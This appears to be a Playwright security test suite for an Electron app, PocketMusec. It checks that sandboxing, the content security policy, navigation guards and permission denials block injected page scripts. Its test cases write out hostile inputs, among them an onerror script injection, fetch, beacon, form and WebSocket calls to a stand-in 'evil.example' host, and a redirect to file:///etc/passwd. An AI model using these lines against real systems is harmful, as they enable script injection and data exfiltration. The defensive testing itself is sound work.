/** Hole: a script that got into the page (by a bad package, or a document that is shown) reaches the computer, the network or another page. */
import dgram from 'node:dgram';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Page } from 'playwright-core';
import { launchApp, temporaryFolder, type RunningApp } from '../../support/app';
import { makePdf } from '../../support/pdf';
import { closeServers, reply, serve } from '../../support/servers';

const { folder, remove } = temporaryFolder();
let running: RunningApp;
let page: Page;
beforeAll(async () => {
  running = await launchApp(folder);
  page = running.page;
  await running.untilState('healthy');
});
const udp = dgram.createSocket('udp4');
afterAll(async () => {
  udp.close();
  await running.close();
  await closeServers();
  remove();
});

test('there is no Node, no Electron, and of the bridge the functions alone', async () => {
  const found = await page.evaluate(() => ({
    globals: ['require', 'process', 'module', 'exports', 'global', 'Buffer', '__dirname', 'ipcRenderer', 'electron', 'setImmediate'].filter((name) => name in window),
    bridge: Object.entries(window.electronAPI).filter(([, value]) => typeof value !== 'function').map(([name]) => name),
    foreign: Object.values(window.electronAPI).filter((value) => (value as object).constructor !== Function).length,
  }));
  expect(found.globals).toEqual([]);
  expect(found.bridge).toEqual([]);
  // Functions of the page's own world: their constructor leads to no other.
  expect(found.foreign).toBe(0);
  await page.evaluate(() => { try { Object.assign(window.electronAPI, { getApiUrl: async () => 'http://evil.example' }); } catch { /* it is frozen */ } });
  expect(await page.evaluate(async () => await window.electronAPI.getApiUrl())).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
});

test('the window is made that way', async () => {
  const preferences = await running.app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().map(({ webContents }) =>
    (webContents as unknown as { getLastWebPreferences: () => Record<string, unknown> }).getLastWebPreferences()));
  expect(preferences).toHaveLength(1);
  expect(preferences[0]).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false, webviewTag: false });
  expect(preferences[0]).not.toMatchObject({ webSecurity: false });
  expect(preferences[0]).not.toMatchObject({ nodeIntegrationInWorker: true });
  expect(preferences[0]).not.toMatchObject({ nodeIntegrationInSubFrames: true });
  // Without the tag it is an element that does nothing.
  expect(await page.evaluate(() => 'getWebContentsId' in document.createElement('webview'))).toBe(false);
});

/** The directive of the first thing that the policy keeps from happening when the page does this; '' for none. */
const violationOf = async (attack: string): Promise<string> => await page.evaluate(`new Promise((resolve) => {
  document.addEventListener('securitypolicyviolation', (event) => { resolve(event.effectiveDirective); }, { once: true });
  setTimeout(() => { resolve(''); }, 2_000);
  // In a task of its own: what a debugger evaluates may use eval.
  setTimeout(() => { try { ${attack}; } catch {} }, 0);
})`);
const add = (tag: string, properties: object): string => `document.body.append(Object.assign(document.createElement('${tag}'), ${JSON.stringify(properties)}))`;
const EVIL = 'http://127.0.0.1:9/x';

test.each([
  ['an inline script', add('script', { textContent: 'window.injected = true' }), 'script-src-elem'],
  ['an inline handler', "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.injected = true\">')", 'script-src-attr'],
  ['a javascript: link', "const link = Object.assign(document.createElement('a'), { href: 'javascript:window.injected = true' }); document.body.append(link); link.click()", 'script-src-elem'],
  ['eval', "(0, eval)('window.injected = true')", 'script-src'],
  ['a function made of text', "new Function('window.injected = true')()", 'script-src'],
  ['a script from outside', add('script', { src: EVIL }), 'script-src-elem'],
  ['a script in the address', add('script', { src: 'data:text/javascript,window.injected=true' }), 'script-src-elem'],
  ['a worker made of text', "new Worker(URL.createObjectURL(new Blob(['1'])))", 'worker-src'],
  ['a style from outside', add('link', { rel: 'stylesheet', href: EVIL }), 'style-src-elem'],
  ['an inline style', add('style', { textContent: 'body{}' }), 'style-src-elem'],
  ['an image from outside', add('img', { src: 'https://evil.example/x.png' }), 'img-src'],
  ['an image in the address', add('img', { src: 'data:image/gif;base64,R0lGODlhAQABAAAAACw=' }), 'img-src'],
  ['a film from outside', add('video', { src: EVIL }), 'media-src'],
  ['a frame', add('iframe', { src: EVIL }), 'frame-src'],
  ['a frame of ours', add('iframe', { src: 'app://bundle/index.html' }), 'frame-src'],
  ['a plug-in', add('object', { data: EVIL }), 'object-src'],
  ['another base', "document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))", 'base-uri'],
  ['a form', "const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' }); document.body.append(form); form.submit()", 'form-action'],
  ['a request to the network', "void fetch('https://evil.example/').catch(() => {})", 'connect-src'],
  ['a request to another name of this computer', "void fetch('http://localhost:9/').catch(() => {})", 'connect-src'],
  ['a WebSocket to the network', "new WebSocket('wss://evil.example/')", 'connect-src'],
  ['a beacon', "navigator.sendBeacon('https://evil.example/', 'x')", 'connect-src'],
  ['a prefetched page', add('link', { rel: 'prefetch', href: 'https://evil.example/' }), 'prefetch-src'],
])('the policy stops %s', async (_what, attack, directive) => {
  // Where Chromium knows no directive of its own for it, the general one speaks.
  expect([directive, 'default-src']).toContain(await violationOf(attack));
  expect(await page.evaluate(() => 'injected' in window)).toBe(false);
});

test('nothing leaves for another port of this computer, in whatever way it is asked for', async () => {
  const other = await serve((socket) => { socket.end(reply(200, 'read', 'Access-Control-Allow-Origin: *\r\n')); });
  // An address of this computer that others on the network see too, where there is one.
  const host = Object.values(os.networkInterfaces()).flat().find((one) => one?.family === 'IPv4' && !one.internal)?.address ?? '127.0.0.1';
  const network = await serve((socket) => { socket.end(reply(200)); }, { host });
  udp.bind(0, '127.0.0.1');
  await once(udp, 'listening');
  const packets: Buffer[] = [];
  udp.on('message', (packet) => { packets.push(packet); });
  const outcomes = await page.evaluate(async ([tcp, stun, far]) => {
    const url = `http://127.0.0.1:${tcp}/`;
    const settled = async (made: EventTarget, good: string): Promise<string> => await new Promise((resolve) => {
      made.addEventListener(good, () => { resolve('reached'); });
      made.addEventListener('error', () => { resolve('failed'); });
    });
    for (const rel of ['preconnect', 'dns-prefetch', 'preload', 'modulepreload', 'prerender', 'icon']) {
      for (const href of [url, `http://${far}/`]) document.head.append(Object.assign(document.createElement('link'), { rel, href }));
    }
    navigator.sendBeacon(url, 'x');
    const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }, { urls: `turn:${far}?transport=tcp`, username: 'x', credential: 'x' }] });
    peer.createDataChannel('x');
    const gathered = new Promise<string>((resolve) => {
      peer.addEventListener('icegatheringstatechange', () => { if (peer.iceGatheringState === 'complete') resolve('nothing found'); });
      peer.addEventListener('icecandidate', ({ candidate }) => { if (candidate !== null) resolve(candidate.candidate); });
    });
    await peer.setLocalDescription(await peer.createOffer());
    return await Promise.all([
      fetch(url).then(() => 'reached', () => 'failed'), fetch(url, { mode: 'no-cors', method: 'POST', body: 'x' }).then(() => 'reached', () => 'failed'),
      settled(new WebSocket(`ws://127.0.0.1:${tcp}/`), 'open'), settled(new EventSource(url), 'open'), settled(Object.assign(new Image(), { src: `${url}x.png` }), 'load'),
      gathered.finally(() => { peer.close(); }),
    ]);
  }, [other.port, udp.address().port, `${host}:${network.port}`] as const);
  expect(outcomes.slice(0, 5)).toEqual(['failed', 'failed', 'failed', 'failed', 'failed']);
  // The hints are taken up in their own time; a request of ours that goes through is later than they were.
  await page.evaluate(async () => await fetch(`${await window.electronAPI.getApiUrl()}/health`).then(async (answer) => await answer.text()));
  expect(other.sockets).toHaveLength(0);
  if (host !== '127.0.0.1') expect(network.sockets).toHaveLength(0);
  expect(packets).toHaveLength(0);
});

test('Towards Secure IPC validation: place, camera, microphone, notices and the clipboard’s content are denied', async () => {
  const outcomes = await page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read', 'accelerometer', 'persistent-storage'];
    const states = names.map(async (name) => (await navigator.permissions.query({ name: name as PermissionName })).state);
    const place = new Promise<number>((resolve) => { navigator.geolocation.getCurrentPosition(() => { resolve(0); }, ({ code }) => { resolve(code); }); });
    const refused = async (asked: Promise<unknown>): Promise<string> => await asked.then(() => 'given', (error: DOMException) => error.name);
    return {
      states: await Promise.all(states), place: await place, notice: await Notification.requestPermission(),
      camera: await refused(navigator.mediaDevices.getUserMedia({ video: true })), microphone: await refused(navigator.mediaDevices.getUserMedia({ audio: true })),
      screen: await refused(navigator.mediaDevices.getDisplayMedia({ video: true })), clipboard: await refused(navigator.clipboard.readText()),
    };
  });
  expect(outcomes).toEqual({
    states: Array.from({ length: 8 }, () => 'denied'), place: 1, notice: 'denied', clipboard: 'NotAllowedError',
    // There is no device here, which may be said first.
    camera: expect.stringMatching(/^Not(Allowed|Found)Error$/), microphone: expect.stringMatching(/^Not(Allowed|Found)Error$/),
    screen: expect.stringMatching(/^(Not(Allowed|Supported|Found)|InvalidState|Invalid|Abort)Error$/),
  });
});

describe('the page stays where it is', () => {
  const ways: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['location', async () => { await page.evaluate(() => { window.location.href = 'https://evil.example/'; }); }],
    ['a file', async () => { await page.evaluate(() => { window.location.assign('file:///etc/passwd'); }); }],
    ['another page of ours', async () => { await page.evaluate(() => { window.location.replace('app://bundle/assets/other.html'); }); }],
    ['the backend', async () => { await page.evaluate(async () => { window.location.href = `${await window.electronAPI.getApiUrl()}/health`; }); }],
    ['a page in the address', async () => { await page.evaluate(() => { window.location.href = 'data:text/html,evil'; }); }],
    ['a page made of text', async () => { await page.evaluate(() => { window.location.href = URL.createObjectURL(new Blob(['evil'], { type: 'text/html' })); }); }],
    ['window.open', async () => { expect(await page.evaluate(() => [window.open('https://evil.example/'), window.open('about:blank'), window.open('app://bundle/index.html')])).toEqual([null, null, null]); }],
    ['a refresh', async () => { await page.evaluate(() => { document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: '0;url=https://evil.example/' })); }); }],
    ['a click, a middle click, a click with Ctrl and one with Shift', async () => {
      await page.evaluate(() => {
        for (const [index, target] of ['', '_blank', '_top'].entries()) {
          const link = Object.assign(document.createElement('a'), { href: 'https://evil.example/', target, textContent: 'evil', className: 'evil' });
          // Above all else, and where the mouse will be.
          Object.assign(link.style, { position: 'fixed', zIndex: '9999', top: `${index * 40}px`, left: '0', width: '40px', height: '40px' });
          document.body.append(link);
        }
      });
      for (const [button, key] of [['left', ''], ['middle', ''], ['left', 'Control'], ['left', 'Shift']] as const) {
        if (key !== '') await page.keyboard.down(key);
        for (const y of [20, 60, 100]) await page.mouse.click(20, y, { button });
        if (key !== '') await page.keyboard.up(key);
      }
      await page.evaluate(() => { for (const link of document.querySelectorAll('a.evil')) link.remove(); });
    }],
    ['a file that is dropped', async () => {
      const file = path.join(folder, 'evil.html');
      writeFileSync(file, '<title>evil</title>');
      const client = await page.context().newCDPSession(page);
      const data = { items: [], files: [file], dragOperationsMask: 1 };
      for (const type of ['dragEnter', 'dragOver', 'drop'] as const) await client.send('Input.dispatchDragEvent', { type, x: 20, y: 20, data });
      await client.detach();
    }],
  ];
  test.each(ways)('whatever is tried by %s', async (_way, go) => {
    await page.evaluate(() => { Object.assign(window, { stayed: true }); });
    await go();
    // A navigation that was let go would have taken the page away before a round trip to main and back is over.
    const shown = await running.app.evaluate(async ({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows().map(({ webContents }) => webContents);
      for (const one of contents) if (one.isLoadingMainFrame()) await new Promise<void>((resolve) => { one.once('did-stop-loading', () => { resolve(); }); });
      return contents.map((one) => one.getURL());
    });
    expect(shown).toEqual(['app://bundle/index.html']);
    expect(await page.evaluate(() => ['stayed' in window, window.location.href, document.title])).toEqual([true, 'app://bundle/index.html', 'PocketMusec']);
  });
});

test('a normal run breaks no rule of the policy', async () => {
  const messages: string[] = [];
  page.on('console', (message) => { if (message.type() === 'error' || message.text().includes('Content Security Policy')) messages.push(message.text()); });
  page.on('pageerror', (error) => { messages.push(String(error)); });
  await page.reload();
  await page.evaluate(() => {
    const seen: string[] = [];
    Object.assign(window, { seen });
    document.addEventListener('securitypolicyviolation', (event) => { seen.push(`${event.effectiveDirective} ${event.blockedURI}`); });
  });
  const pdf = path.join(folder, 'standards.pdf');
  const known = makePdf(pdf, { pages: 3 });
  await page.getByLabel(/^Choose .*files to add/).setInputFiles(pdf);
  await page.getByText(`${known.standards} standards`).first().waitFor();
  await page.getByRole('searchbox', { name: 'Search standards' }).fill('music');
  await page.getByRole('list', { name: 'Results' }).locator('mark').first().waitFor();
  expect(await page.evaluate(() => (window as unknown as { seen: string[] }).seen)).toEqual([]);
  expect(messages).toEqual([]);
});
